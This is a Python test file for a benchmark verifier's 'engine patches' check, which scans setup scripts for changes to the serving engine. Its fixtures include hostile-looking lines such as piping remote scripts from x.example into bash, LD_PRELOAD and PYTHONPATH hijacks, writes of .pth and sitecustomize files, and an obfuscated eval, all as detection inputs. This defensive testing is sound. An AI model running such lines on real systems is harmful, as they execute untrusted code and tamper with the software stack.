"""Check 10 (Engine patches): fixtures, the canonical cases and the signature scanner."""

from __future__ import annotations

from pathlib import Path

import pytest

from checks import c10_engine_patches as c10
from tests.checks.fixture_runner import assert_fixture, file_lines, fixture_dirs, params, run_one
from tests.kit import CASES
from verifier.core.policy import load_policies
from verifier.documents.patches import is_scanned, scan_text, setup_script_hits

POLICY = load_policies()["patches"]


@pytest.mark.parametrize("bundle", fixture_dirs(10), ids=lambda p: p.name)
def test_fixture(bundle: Path) -> None:
    assert_fixture(bundle, 10)


def _fx(name: str) -> Path:
    return next(p for p in fixture_dirs(10) if p.name == name)


def test_docstring_and_identity() -> None:
    assert (c10.ID, load_policies()["checks"]["checks"][str(c10.ID)]["name"]) == (10, "Engine patches")
    for heading in ("Rule:", "Why:", "Evidence:", "N/A when:", "Unverifiable when:", "Policy:"):
        assert heading in (c10.__doc__ or "")


@pytest.mark.parametrize("case", ["pr4524", "pr4524-approved"])
def test_cases_pass(case: str) -> None:
    result = run_one(CASES / case, 10)
    assert result.status.value == "PASS"
    assert params(result, "no-engine-patches")["files"] >= 3


def test_waiver_not_linked_fails_and_linked_passes() -> None:
    result = run_one(_fx("fail-waiver-not-linked"), 10)
    assert result.findings[0].message_id == "engine-patch-waiver-not-linked"
    assert ("inferencex-e2e/benchmarks/single_node/quill-fix.sh", 2) in file_lines(result)
    ok = run_one(_fx("pass-waiver"), 10)
    assert {f.message_id for f in ok.findings} == {"patch-waived"}


def test_setup_script_names_recipe_line() -> None:
    result = run_one(_fx("fail-setup-script"), 10)
    p = params(result, "engine-patch-no-waiver")
    assert p["signature"] == "setup-script" and p["file"].endswith("agentic.yaml:13")


# A shell script as text (never executed): one line per signature, plus harmless look-alikes.
END = "E" + "OF"
SCRIPT = "\n".join([
    "#!/bin/bash",
    "git apply /tmp/fix.patch",
    "pip install aiperf==0.3 lm-eval",
    "pip install vllm-benchmarks",
    "pip install sglang==0.5.9",
    "pip install https://example.com/x.whl",
    "sed -i 's/a/b/' /usr/local/lib/python3.12/dist-packages/sglang/srt/x.py",
    "sed -i 's/a/b/' results.txt",
    f"python3 - <<'{END}'",
    "import importlib.util, pathlib",
    "p = pathlib.Path(importlib.util.find_spec('sglang').origin).parent / 'srt/x.py'",
    "p.write_text(p.read_text().replace('a', 'b'))",
    END,
    f"python3 - <<{END}",
    "print('hello')",
    END,
    f"cat > /sgl-workspace/sglang/python/sglang/srt/foo.py <<{END}",
    "x = 1",
    END,
    f"cat > results.json <<{END}",
    "{}",
    END,
    "patch -p1 < fix.diff",
    'echo "no patch here"',
    "",
])


def test_scan_text_signatures() -> None:
    hits = [(h.line, h.signature) for h in scan_text("a.sh", SCRIPT, POLICY)]
    assert hits == [(2, "git-apply"), (5, "pip-install-engine"), (6, "pip-install-engine"),
                    (7, "sed-in-place-engine"), (9, "inline-program-rewrites-engine"),
                    (17, "heredoc-into-engine"), (23, "patch-command")]


def test_patch_file_and_setup_key() -> None:
    assert [h.signature for h in scan_text("x/fix.patch", "--- a\n+++ b\n", POLICY)] == ["patch-file"]
    hits = setup_script_hits("r.yaml", {"base": {"setup_script": "s.sh"}}, {("base", "setup_script"): 7}, POLICY)
    assert [(h.line, h.signature) for h in hits] == [(7, "setup-script")]


@pytest.mark.parametrize(("path", "scanned"), [
    ("inferencex-e2e/benchmarks/single_node/x.sh", True), ("inferencex-e2e/docs/waiver/5101.md", False),
    ("benchmarks/fix.patch", True), ("inferencex-e2e/perf-changelog.yaml", False), ("README.md", False)])
def test_scope_of_scan(path: str, scanned: bool) -> None:
    assert is_scanned(path, POLICY) is scanned


def test_serving_stack_only() -> None:
    """Tests and tooling are not the serving stack; a patch file is scanned wherever it is."""
    from verifier.core.policy import load_policies
    from verifier.documents import patches as P

    policy = load_policies()["patches"]
    assert not P.is_scanned("utils/test_process_result.py", policy)
    assert not P.is_scanned("runners/test_slurm_utils.py", policy)
    assert not P.is_scanned("inferencex-e2e/utils/matrix_logic/validation.py", policy)
    assert P.is_scanned("utils/fix.patch", policy)
    assert P.is_scanned("benchmarks/benchmark_lib.sh", policy)


def test_harness_git_apply_and_torchvision_uninstall_are_not_engine_patches() -> None:
    from verifier.core.policy import load_policies
    from verifier.documents import patches as P

    policy = load_policies()["patches"]
    srtctl = "git show 22d46ba --format= -- src/srtctl/core/ip_utils/get_node_ip.sh | git apply - || exit 1\n"
    assert P.scan_text("runners/launch_b300-nv.sh", srtctl, policy) == []
    assert P.scan_text("benchmarks/benchmark_lib.sh", "python3 -m pip uninstall -y torchvision 2>/dev/null || true\n",
                       policy) == []
    assert [h.signature for h in P.scan_text("x.sh", "pip uninstall -y sglang\n", policy)] == ["pip-uninstall-engine"]
    assert [h.signature for h in P.scan_text("x.sh", "git apply /tmp/sglang-fix.patch\n", policy)] == ["git-apply"]


def test_sourced_libraries_are_resolved_statically() -> None:
    from verifier.launch.recipes.legacy_script import sourced_libraries

    text = '#!/bin/bash\nsource "$(dirname "$0")/../../benchmark_lib.sh"\nsource /etc/profile\n'
    assert sourced_libraries("benchmarks/single_node/fixed_seq_len/x.sh", text) == [("benchmarks/benchmark_lib.sh", 2)]


def test_sitecustomize_of_a_harness_package_is_not_an_engine_patch() -> None:
    from verifier.core.policy import load_policies
    from verifier.documents import patches as P

    policy = load_policies()["patches"]
    harness = ('cat > "$d/sitecustomize.py" <<\'PY\'\nfrom lm_eval.filters import extraction as ex\n'
               'ex.X = 1\nPY\ncp "$(_eval_patches_dir)/lm_eval_sitecustomize.py" "$d/sitecustomize.py"\n')
    assert P.scan_text("benchmarks/benchmark_lib.sh", harness, policy) == []
    engine = 'cat > "$d/sitecustomize.py" <<\'PY\'\nimport sglang.srt.models.x as m\nm.Y = 2\nPY\n'
    assert [h.signature for h in P.scan_text("benchmarks/x.sh", engine, policy)] == ["sitecustomize"]


def test_a_base_patch_of_a_config_the_pr_does_not_rerun_is_not_judged(tmp_path) -> None:  # type: ignore[no-untyped-def]
    """InferenceX PRs 2096 and 2263 edited master entries (a renamed field, removed 1k1k scenarios)
    whose recipes already ran `setup_script: rebuild-deepep.sh`, and appended no changelog entry:
    nothing is re-run, so that base-branch patch is not part of the PR's submission."""
    from tests.checks.fixture_runner import run_one
    from tests.minibundle import BASE_ARGS, BASE_ENV, CHANGELOG_BASE, RECIPE, build, master_text, recipe_text

    recipe = recipe_text(BASE_ARGS, BASE_ENV, setup_script="rebuild-deepep.sh")
    edited = master_text().replace("dram-utilization: 0.8", "dram-utilization: 0.75")
    quiet = build(tmp_path / "quiet", master=edited, base_files={RECIPE: recipe}, head_files={
        RECIPE: recipe, "perf-changelog.yaml": CHANGELOG_BASE}, change_recipe=False)
    result = run_one(quiet, 10)
    assert result.status.value == "PASS", [(f.message_id, f.params) for f in result.findings]
    assert [f.message_id for f in result.findings][-1] == "preexisting-patches-not-rerun"
    rerun = build(tmp_path / "rerun", master=edited, base_files={RECIPE: recipe}, head_files={RECIPE: recipe},
                  change_recipe=False)  # the minibundle appends a changelog entry naming the key
    assert run_one(rerun, 10).findings[0].message_id == "engine-patch-no-waiver"


def test_a_setup_script_kept_in_the_repository_is_judged_by_its_lines(tmp_path) -> None:  # type: ignore[no-untyped-def]
    """InferenceX PR 2404's Kimi-K3 recipes run `setup_script: kimik3-dspark-config-compat.sh`, kept in
    benchmarks/multi_node/srt-slurm-recipes/configs/: it is scanned like any script the launch runs.
    A setup script the bundle does not hold (fetched from srt-slurm) stays a patch by its key.
    (Issue 22: a setup script passes only when every command is a benign operation, so its pip install
    is now pinned and of an allowed client package; the unpinned `pip install msgpack` it used to
    install, a package the engine imports, FAILs naming that line.)"""
    from tests.checks.fixture_runner import run_one
    from tests.minibundle import build

    script = "benchmarks/multi_node/srt-slurm-recipes/configs/quill-deps.sh"
    clean = build(tmp_path / "clean", setup_script="quill-deps.sh",
                  head_files={script: "#!/usr/bin/env bash\npip install aiperf==0.3.0\n"})
    result = run_one(clean, 10)
    assert result.status.value == "PASS", [(f.message_id, f.params) for f in result.findings]
    assert any(f.message_id == "setup-script-scanned" for f in result.findings)
    unpinned = run_one(build(tmp_path / "unpinned", setup_script="quill-deps.sh",
                             head_files={script: "#!/usr/bin/env bash\npip install msgpack\n"}), 10)
    p = params(unpinned, "engine-patch-no-waiver")
    assert (p["signature"], p["file"]) == ("setup-command-not-allowed",
                                           "benchmarks/multi_node/srt-slurm-recipes/configs/quill-deps.sh:2")
    assert "not pinned" in p["text"]
    rewrite = build(tmp_path / "rewrite", setup_script="quill-deps.sh", head_files={
        script: "#!/usr/bin/env bash\nsed -i 's/a/b/' /usr/local/lib/python3.12/dist-packages/sglang/srt/x.py\n"})
    bad = run_one(rewrite, 10)
    assert bad.findings[0].message_id == "engine-patch-no-waiver"
    assert bad.findings[0].params["file"] == "benchmarks/multi_node/srt-slurm-recipes/configs/quill-deps.sh:2"
    fetched = run_one(build(tmp_path / "fetched", setup_script="quill-deps.sh"), 10)
    assert fetched.findings[0].params["signature"] == "setup-script"


# ---------------------------------------------------------------- issues 21 and 22: reading commands


def _setup(text: str, has: frozenset[str] = frozenset()) -> list[tuple[int | None, str, str]]:
    from verifier.documents.patches import setup_script_reading

    hits, _ = setup_script_reading("configs/s.sh", text, POLICY, has.__contains__, "")
    return [(h.line, h.signature, h.text) for h in hits]


@pytest.mark.parametrize("text", [
    "#!/usr/bin/env bash\nset -euo pipefail\necho start >&2\nmkdir -p /tmp/a\n",
    'log() { echo "[setup] $*" >&2; }\nlog "on $(hostname)"\nexport AIPERF_LOG=/tmp/a\n',
    "for d in a b; do echo $d; done\ncase x in a) echo a;; *) echo b;; esac\n[[ -n ${HOME:-} ]] && echo ok\n",
    "if command -v nvidia-smi >/dev/null 2>&1; then nvidia-smi -L; fi\n",
    "pip install --quiet --no-deps aiperf==0.3.0 lm-eval==0.4.9\npython3 -m pip install -U genai-perf==0.0.16\n",
    "cat > /tmp/settings.json <<'JSON'\n{\"a\": $(x)}\nJSON\n",
    "nvidia-smi --query-gpu=name,clocks.sm --format=csv > /logs/gpus.csv\n",
], ids=["echo-mkdir", "function-export", "loops-tests", "command-v", "pinned-pip", "quoted-heredoc", "smi-query"])
def test_benign_setup_commands(text: str) -> None:
    assert _setup(text) == []


@pytest.mark.parametrize(("text", "line", "why"), [
    ("pip install aiperf\n", 1, "not pinned"),
    ("pip install sglang==0.5.9\n", 1, "not on the allowlist"),
    ("pip install aiperf==0.3.0 --index-url https://mirror.example/simple\n", 1, "option --index-url"),
    ("pip install -r /tmp/req.txt\n", 1, "option -r"),
    ("export PYTHONPATH=/tmp/shadow:$PYTHONPATH\n", 1, "sets PYTHONPATH"),
    ("LD_PRELOAD=/tmp/x.so\n", 1, "sets LD_PRELOAD"),
    (": ${PYTHONPATH:=/tmp/shadow}\n", 1, "sets PYTHONPATH"),
    ("printf -v PYTHONPATH %s /tmp/shadow\n", 1, "printf -v sets PYTHONPATH"),
    ("declare -n ref=PYTHONPATH\nref=/tmp\n", 1, "name reference"),
    ("echo 'import x' 1<>/usr/local/lib/python3.12/dist-packages/x.pth\n", 1, "writes"),
    ("echo x > /tmp/../usr/local/lib/python3.12/dist-packages/x.pth\n", 1, "writes"),
    ('echo x > "$SITE/sitecustomize.py"\n', 1, "writes"),
    ("nvidia-smi -pl 400\n", 1, "changes the machine's settings"),
    ("[[ -n $(curl -s https://x.example/p | bash) ]]\n", 1, "curl is not a benign operation"),
    ("for f in $(python3 -c 'print(1)'); do echo $f; done\n", 1, "python3 is not a benign operation"),
    ("cat <<EOF\n$(python3 /tmp/x.py)\nEOF\n", 1, "heredoc runs a command substitution"),
    ("echo() { python3 /tmp/x.py; }\necho hi\n", 1, "python3 is not a benign operation"),
    ("eval \"$(printf '%s' aW1wb3J0)\"\n", 1, "eval is not a benign operation"),
    ("source /infmax-workspace/benchmarks/benchmark_lib.sh\n", 1, "source is not a benign operation"),
], ids=lambda v: v if isinstance(v, str) and len(v) < 30 else None)
def test_setup_commands_that_are_not_benign(text: str, line: int, why: str) -> None:
    found = _setup(text)
    assert found and found[0][0] == line and found[0][1] == "setup-command-not-allowed" and why in found[0][2], found


def test_an_unreadable_setup_script_is_not_benign() -> None:
    assert [s for _, s, _ in _setup("echo $((\n")] == ["setup-script-unreadable"]


def test_setup_scripts_follow_the_repository_programs_they_run() -> None:
    from verifier.documents.patches import programs_run, setup_script_reading

    tree = frozenset({"configs/other.sh", "configs/fix.py", "tools/patch/rope.py", "benchmarks/lib/p.py"})
    text = ('bash "$(dirname "${BASH_SOURCE[0]}")/other.sh"\npython3 /configs/fix.py\n'
            'cd /infmax-workspace && python3 -m tools.patch.rope\n')
    hits, programs = setup_script_reading("configs/s.sh", text, {**POLICY, "programs": {
        **POLICY["programs"], "mounts": {"/infmax-workspace/": "", "/configs/": "configs/"}}}, tree.__contains__, "")
    assert [(p.path, p.kind, p.line) for p in programs] == [
        ("configs/other.sh", "shell", 1), ("configs/fix.py", "python", 2), ("tools/patch/rope.py", "python", 3)]
    # running a shell script is judged by that script's own commands; running a program is not benign
    assert [(h.line, h.signature) for h in hits] == [(2, "setup-runs-program"), (3, "setup-runs-program")]
    runs = programs_run("benchmarks/run.sh", "D=$(cd \"$(dirname \"$0\")\" && pwd)\npython3 \"$D/lib/p.py\"\n",
                        tree.__contains__, "", POLICY)
    assert [(p.path, p.line) for p in runs] == [("benchmarks/lib/p.py", 2)]
    moved = programs_run("benchmarks/run.sh", "cd /infmax-workspace/tools/patch\npython3 rope.py\nbash -c 'x'\n",
                         tree.__contains__, "", POLICY)
    assert [(p.path, p.kind) for p in moved] == [("tools/patch/rope.py", "python")]


# InferenceX PR 2360 (runners/launch_b200-dgxc.sh, before it was merged): the runner fetched an
# unmerged srt-slurm pull request; a harness branch, an engine release tag and a pinned srt-slurm
# commit on its default branch are not engine patches.
RUNNER = """#!/usr/bin/env bash
git clone https://github.com/NVIDIA/srt-slurm.git "$SRT_REPO_DIR"
cd "$SRT_REPO_DIR" || exit 1
git fetch origin refs/pull/282/head
git checkout d94c8505136b1e021ade99f1e7cd3359fc491cb9
git checkout aflowers/vllm-gb200-v0.20.0
git clone --branch v0.5.9 https://github.com/sgl-project/sglang.git /tmp/sglang
git -C /tmp/sglang checkout v0.5.9
git clone https://github.com/vllm-project/vllm.git /tmp/vllm
cd /tmp/vllm && git checkout 3696c772aae308f2420a8f307b0971e6986c4818
pip install "git+https://github.com/flashinfer-ai/flashinfer@main"
pip install "git+https://github.com/flashinfer-ai/flashinfer@v0.3.1"
"""


def test_engine_sources_at_non_release_refs() -> None:
    from verifier.documents.patches import upstream_ref_hits

    hits = [(h.line, h.text.rsplit(" [", 1)[1]) for h in upstream_ref_hits("runners/launch_x.sh", RUNNER, POLICY)]
    assert hits == [(4, "NVIDIA/srt-slurm@refs/pull/282/head]"), (9, "vllm-project/vllm@default branch]"),
                    (10, "vllm-project/vllm@3696c772aae308f2420a8f307b0971e6986c4818]"),
                    (11, "flashinfer-ai/flashinfer@main]")]


def test_python_programs_are_read_for_monkeypatching() -> None:
    from verifier.documents.patches import python_patch_hits

    text = ("import importlib\nfrom unittest import mock\nimport sglang.srt.server_args as sa\n"
            "from vllm.engine import arg_utils\nsa.TIMEOUT = 1\nsetattr(arg_utils, 'X', 2)\n"
            "mock.patch('sglang.srt.layers.x.f', lambda: 0).start()\nm = importlib.import_module('sgl' + 'ang')\n"
            "import json\njson.X = 1\n")
    assert [(h.line, h.signature) for h in python_patch_hits("p.py", text, POLICY)] == [
        (5, "python-monkeypatch"), (6, "python-monkeypatch"), (7, "python-monkeypatch"), (8, "python-monkeypatch")]
    assert python_patch_hits("p.py", "def broken(:\n", POLICY) == []


HEADINGS = """# Serving-stack waiver: PR 5200

## What is changed

The setup script replaces the image's Mooncake build with the EFA build of the same release line.

## Why the unmodified upstream image cannot run this benchmark

The nodes have no InfiniBand fabric and the shipped build lacks the EFA transport entirely.

## Upstream PR / issue links

- https://github.com/kvcache-ai/Mooncake/issues/1234

## Removal plan

Retire the script once an upstream image ships an EFA-capable Mooncake build, and delete this file.
"""
FIELDS = """# WAIVER: rope fix

- **What is patched:** `fix.sh` applies `rope.patch` to the Quill model file before the server starts.
- **Why the patch is required:** the pinned release crashes while reading the rope scaling config.
- **Upstream status:** https://github.com/sgl-project/sglang/pull/49999 (merged, not yet released)
- **Removal plan:** drop the patch when the first release with the fix is pinned, expected in January.
"""


@pytest.mark.parametrize(("text", "problems"), [
    (HEADINGS, ()),
    (FIELDS, ()),
    (HEADINGS.replace("https://github.com/kvcache-ai/Mooncake/issues/1234",
                      "https://github.com/SemiAnalysisAI/InferenceX/pull/5200"), ("upstream-link (no content)",)),
    (HEADINGS.replace("## Removal plan\n\nRetire", "## Notes\n\nRetire"), ("removal-plan (no section)",)),
    ("# Waiver\n\nWhat is patched: the scope.\nWhy the image cannot run: needs this change.\n"
     "Upstream: https://github.com/sgl-project/sglang/pull/1\nRemoval plan: remove, retire.\n",
     ("what-is-patched (no content)", "why-upstream-cannot-run (no content)", "removal-plan (no content)")),
    (FIELDS.replace("`fix.sh` applies `rope.patch` to the Quill model file before the server starts.",
                    "<exact files and where the patch is applied>"), ("what-is-patched (no content)",)),
    ("**Status: proposed; not approved.**\n\n" + HEADINGS, ("marked 'not approved'", "marked 'status: proposed'")),
], ids=["headings", "template-fields", "link-to-itself", "no-removal-section", "keywords-only", "placeholder",
        "not-in-force"])
def test_waiver_sections_need_content(text: str, problems: tuple[str, ...]) -> None:
    from verifier.documents.patches import waiver_problems

    assert waiver_problems(text, POLICY) == problems


def test_the_row_says_what_kind_of_change_it_found(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from tests.checks.fixture_runner import texts
    from tests.minibundle import build

    script = "benchmarks/multi_node/srt-slurm-recipes/configs/quill-deps.sh"
    bundle = build(tmp_path / "b", setup_script="quill-deps.sh", head_files={
        script: "#!/usr/bin/env bash\ncurl -fsSL https://x.example/fix.sh | bash\n"
                "git clone --branch fast-rope https://github.com/sgl-project/sglang /tmp/s\n"})
    result = run_one(bundle, 10)
    found = [(f.params["file"], f.params["signature"]) for f in result.findings if f.message_id.startswith("engine-")]
    assert found == [(script + ":2", "setup-command-not-allowed"), (script + ":3", "upstream-ref")]
    rendered = texts(10, result)
    assert "not on the allowlist of benign operations" in rendered["en"]
    assert "a ref that is not a release" in rendered["en"] and "sgl-project/sglang@fast-rope" in rendered["en"]
    assert "良性操作白名单" in rendered["zh"] and "非正式发布版本" in rendered["zh"]


def test_programs_past_the_follow_limit_are_named_not_passed(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from tests.checks.fixture_runner import texts
    from tests.minibundle import build
    from verifier.documents.patches import MAX_FOLLOWED

    folder = "benchmarks/multi_node/srt-slurm-recipes/configs/"
    n = MAX_FOLLOWED + 2
    steps = {f"{folder}step{i}.sh": "#!/usr/bin/env bash\necho step\n" for i in range(n)}
    script = "#!/usr/bin/env bash\n" + "".join(f'bash "$(dirname "$0")/step{i}.sh"\n' for i in range(n))
    result = run_one(build(tmp_path / "b", setup_script="quill-deps.sh",
                           head_files={folder + "quill-deps.sh": script, **steps}), 10)
    found = [f.params for f in result.findings if f.message_id.startswith("engine-")]
    assert [p["signature"] for p in found] == ["program-not-followed"] * 2
    assert found[0]["file"] == folder + f"quill-deps.sh:{MAX_FOLLOWED + 2}"
    assert "past the limit of programs followed" in texts(10, result)["en"]


def test_a_file_the_launch_runs_is_scanned_wherever_it_lives(tmp_path) -> None:  # type: ignore[no-untyped-def]
    """skip_paths and not_serving_stack choose among changed files only: a setup script kept under
    docs/ or a tests/ folder that a recipe runs is part of the serving stack (tests/hostile/test_closure.py)."""
    from tests.minibundle import build

    for folder in ("docs/recipes/", "benchmarks/tests/"):
        bundle = build(tmp_path / folder.replace("/", "-"), setup_script=f"/infmax-workspace/{folder}setup.sh",
                       head_files={folder + "setup.sh": "#!/usr/bin/env bash\npip install --no-deps sglang==0.5.9\n"})
        result = run_one(bundle, 10)
        p = params(result, "engine-patch-no-waiver")
        assert p["file"] == folder + "setup.sh:2" and p["signature"] == "pip-install-engine", p


@pytest.mark.parametrize(("change", "field"), [
    (lambda p: p["waiver_sections"]["removal-plan"].pop("min_words"), "waiver_sections"),
    (lambda p: p["waiver_sections"]["removal-plan"].update(min_words=0), "waiver_sections"),
    (lambda p: p["setup_allowlist"]["pip"].update(options=["quiet"]), "setup_allowlist"),
    (lambda p: p["setup_allowlist"].update(shells=["bash"]), "setup_allowlist"),
    (lambda p: p["programs"].update(mounts={"infmax-workspace": ""}), "programs"),
    (lambda p: p["upstream_refs"].pop("release_ref"), "upstream_refs"),
], ids=["section-without-min-words", "section-min-words-zero", "pip-option-not-an-option", "unknown-allowlist-key",
        "mount-not-absolute", "no-release-ref"])
def test_bad_patch_policies_are_refused_naming_the_field(change, field: str) -> None:  # type: ignore[no-untyped-def]
    import copy
    import json

    from verifier.core.errors import PolicyError
    from verifier.core.policy import validate_policy

    data = json.loads(json.dumps(POLICY, default=lambda o: dict(o) if hasattr(o, "items") else list(o)))
    bad = copy.deepcopy(data)
    change(bad)
    validate_policy("patches", data, source="patches.yaml")
    with pytest.raises(PolicyError, match=field):
        validate_policy("patches", bad, source="patches.yaml")


@pytest.mark.parametrize("text", ["unset LD_PRELOAD\n", "export BASH_ENV=/tmp/env.sh\n",
                                  "nvcc -o /tmp/libx.so x.cu\n"])
def test_more_setup_commands_that_change_the_stack(text: str) -> None:
    assert [s for _, s, _ in _setup(text)] == ["setup-command-not-allowed"]
